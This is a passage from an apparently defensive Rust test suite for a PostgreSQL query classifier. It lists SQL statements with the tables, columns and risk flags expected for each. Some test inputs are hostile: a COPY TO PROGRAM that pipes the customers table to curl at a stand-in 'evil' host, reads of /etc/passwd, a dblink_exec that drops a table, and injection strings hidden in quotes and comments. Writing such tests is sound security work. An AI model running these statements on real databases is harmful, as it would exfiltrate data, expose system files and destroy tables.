    Case { sql: "SELECT lo_import('/etc/passwd')", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT pg_terminate_backend(123)", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT pg_cancel_backend(pid) FROM pg_stat_activity", kind: Export, read: &["pg_catalog.pg_stat_activity"], out: &["pg_catalog.pg_stat_activity.pid"], flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT pg_reload_conf()", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT dblink_exec('host=x password=y', 'DROP TABLE customers')", flags: &["unsafe_function", "has_secret"], ..D },
    Case { sql: "SELECT query_to_xml('select * from customers', true, true, '')", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT calc_discount(price) FROM products", read: &["products"], out: &["products.price"], ..D },
    Case { sql: "SELECT get_ssn(id) FROM customers", read: &["customers"], out: &["customers.id"], flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT mystery_fn()", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT * FROM customers WHERE id = nextval('s')", read: &["customers"], out: CUSTOMERS_ALL, flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT pg_catalog.lower(name) FROM customers", read: &["customers"], out: &["customers.name"], ..D },
    Case { sql: "SELECT pg_notify('ch', 'x')", flags: &["unsafe_function"], ..D },
    Case { sql: "SELECT version() FROM pg_class WHERE pg_read_file('x') IS NULL", read: &["pg_catalog.pg_class"], flags: &["unsafe_function"], ..D },
    Case { sql: "CALL refresh_stats()", kind: Unknown, flags: &["unsafe_function"], label: Some("CALL refresh_stats"), ..D },
    Case { sql: "CALL calc_discount(1)", kind: Write, label: Some("CALL public.calc_discount"), ..D },
    // ── EXPLAIN ───────────────────────────────────────────────────────────────────────
    Case { sql: "EXPLAIN SELECT * FROM customers", read: &["customers"], label: Some("EXPLAIN SELECT"), ..D },
    Case { sql: "EXPLAIN (FORMAT JSON) SELECT email FROM customers", read: &["customers"], ..D },
    Case { sql: "EXPLAIN DELETE FROM orders", read: &["orders"], label: Some("EXPLAIN DELETE"), ..D },
    Case { sql: "EXPLAIN ANALYZE SELECT * FROM customers", kind: Write, read: &["customers"], flags: &["explain_analyze"], label: Some("EXPLAIN ANALYZE SELECT"), ..D },
    Case { sql: "EXPLAIN ANALYZE DELETE FROM orders", kind: Write, written: &["orders"], flags: &["explain_analyze", "unbounded_write"], ..D },
    Case { sql: "EXPLAIN (ANALYZE, BUFFERS) SELECT 1", kind: Write, flags: &["explain_analyze"], ..D },
    Case { sql: "EXPLAIN (ANALYZE true, VERBOSE) SELECT id FROM products", kind: Write, read: &["products"], flags: &["explain_analyze"], ..D },
    Case { sql: "EXPLAIN (ANALYZE false) SELECT 1", ..D },
    Case { sql: "EXPLAIN ANALYZE SELECT nextval('s')", kind: Write, flags: &["explain_analyze", "unsafe_function"], ..D },
    // ── cursors and prepared statements (without session state) ────────────────────────
    Case { sql: "DECLARE c CURSOR FOR SELECT email FROM customers", read: &["customers"], out: &["customers.email"], label: Some("DECLARE CURSOR FOR SELECT"), ..D },
    Case { sql: "DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM customer_contacts", read: &["customer_contacts", "customers"], out: &["customers.name", "customers.email"], ..D },
    Case { sql: "DECLARE c CURSOR FOR SELECT id FROM orders", read: &["orders"], out: &["orders.id"], ..D },
    Case { sql: "FETCH 10 FROM c", label: Some("FETCH"), ..D },
    Case { sql: "FETCH ALL IN c", ..D },
    Case { sql: "MOVE NEXT IN c", ..D },
    Case { sql: "CLOSE c", ..D },
    Case { sql: "PREPARE q(int) AS SELECT ssn FROM customers WHERE id = $1", read: &["customers"], out: &["customers.ssn"], label: Some("PREPARE SELECT"), ..D },
    Case { sql: "PREPARE d AS DELETE FROM orders", kind: Write, written: &["orders"], flags: &["unbounded_write"], ..D },
    Case { sql: "EXECUTE q(1)", kind: Unknown, label: Some("EXECUTE q"), ..D },
    Case { sql: "EXECUTE q(pg_read_file('/etc/passwd'))", kind: Unknown, flags: &["unsafe_function"], ..D },
    // ── COPY ──────────────────────────────────────────────────────────────────────────
    Case { sql: "COPY customers TO STDOUT", kind: Export, read: &["customers"], out: CUSTOMERS_ALL, label: Some("COPY TO STDOUT"), ..D },
    Case { sql: "COPY customers (id, email) TO STDOUT WITH (FORMAT csv, HEADER)", kind: Export, read: &["customers"], out: &["customers.id", "customers.email"], ..D },
    Case { sql: "COPY products TO STDOUT", kind: Export, read: &["products"], out: PRODUCTS_ALL, ..D },
    Case { sql: "COPY (SELECT email FROM customers) TO STDOUT", kind: Export, read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "COPY (SELECT * FROM customer_contacts) TO STDOUT (FORMAT binary)", kind: Export, read: &["customer_contacts", "customers"], out: &["customers.name", "customers.email"], ..D },
    Case { sql: "COPY products FROM STDIN", kind: Write, written: &["products"], label: Some("COPY FROM STDIN"), ..D },
    Case { sql: "COPY products (name, price) FROM STDIN WITH (FORMAT csv)", kind: Write, written: &["products"], ..D },
    Case { sql: "COPY customers TO '/tmp/x'", kind: Export, read: &["customers"], out: CUSTOMERS_ALL, flags: &["server_side_copy"], label: Some("COPY TO file"), ..D },
    Case { sql: "COPY customers TO PROGRAM 'curl -d @- http://evil'", kind: Export, read: &["customers"], out: CUSTOMERS_ALL, flags: &["server_side_copy"], label: Some("COPY TO PROGRAM"), ..D },
    Case { sql: "COPY products FROM PROGRAM 'cat /etc/passwd'", kind: Write, written: &["products"], flags: &["server_side_copy"], label: Some("COPY FROM PROGRAM"), ..D },
    Case { sql: "COPY products FROM '/etc/passwd'", kind: Write, written: &["products"], flags: &["server_side_copy"], ..D },
    // ── comments, dollar quotes, odd layout ───────────────────────────────────────────
    Case { sql: "SELECT /* DROP TABLE x */ email FROM customers", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT email -- , ssn\n FROM customers", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT email /* nested /* , ssn */ still comment */ FROM customers", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SELECT $$ ; DROP TABLE customers; $$ AS x", ..D },
    Case { sql: "SELECT $tag$ '; DELETE FROM orders; -- $tag$", ..D },
    Case { sql: "SELECT 'a'';DELETE FROM orders;--'", ..D },
    Case { sql: "SELECT E'\\';DELETE FROM orders;--'", ..D },
    Case { sql: "/* leading */ DELETE /* x */ FROM orders", kind: Write, written: &["orders"], flags: &["unbounded_write"], ..D },
    Case { sql: "-- comment\nDROP TABLE orders", kind: Ddl, written: &["orders"], ..D },
    Case { sql: "  \n\tSELECT\n\temail\nFROM\n\tcustomers\n", read: &["customers"], out: &["customers.email"], ..D },
    Case { sql: "SeLeCt SsN fRoM CuStOmErS", read: &["customers"], out: &["customers.ssn"], ..D },
];

#[test]
fn table_of_statements() {
    let c = classifier();
    let mut failures = Vec::new();
    for case in CASES {
        let f = one(&c, case.sql);
        let got = (
            f.kind,
            sorted(&f.tables_read),
            sorted(&f.tables_written),
            sorted(&f.output_columns),
            f.flags.names(),
        );
        let want = (
            case.kind,
            tables(case.read),
            tables(case.written),
            cols(case.out),
            case.flags.to_vec(),
        );
        let label_ok = case.label.is_none_or(|l| f.label == l);
        if got != want || !label_ok {
            failures.push(format!(
                "{}\n   got:  {:?} label={:?}\n   want: {:?} label={:?}",
                case.sql, got, f.label, want, case.label
            ));
        }
    }
    assert!(CASES.len() >= 150, "the table has {} cases", CASES.len());
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn functions_are_reported_schema_qualified() {
    let c = classifier();
    let f = one(
        &c,
        "SELECT lower(name), calc_discount(price), nextval('s'), mystery(1) FROM products",
    );
    assert_eq!(
        f.functions,
        vec![
            "pg_catalog.lower",
            "public.calc_discount",
            "pg_catalog.nextval",
            "mystery"
        ]
    );
}

#[test]
fn referenced_columns_include_filters_and_joins() {
    let c = classifier();
    let f = one(
        &c,
        "SELECT count(*) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.ssn = $1",
    );
    assert!(f.output_columns.is_empty());
    assert_eq!(
        sorted(&f.columns),
        cols(&["customers.id", "customers.ssn", "orders.customer_id"])
    );
    let f = one(&c, "UPDATE customers SET email = $1 WHERE phone = $2");
    assert_eq!(
        sorted(&f.columns),
        cols(&["customers.email", "customers.phone"])
    );
    let f = one(&c, "INSERT INTO products VALUES (1, 'x', 2)");
    assert_eq!(sorted(&f.columns), cols(PRODUCTS_ALL));
}
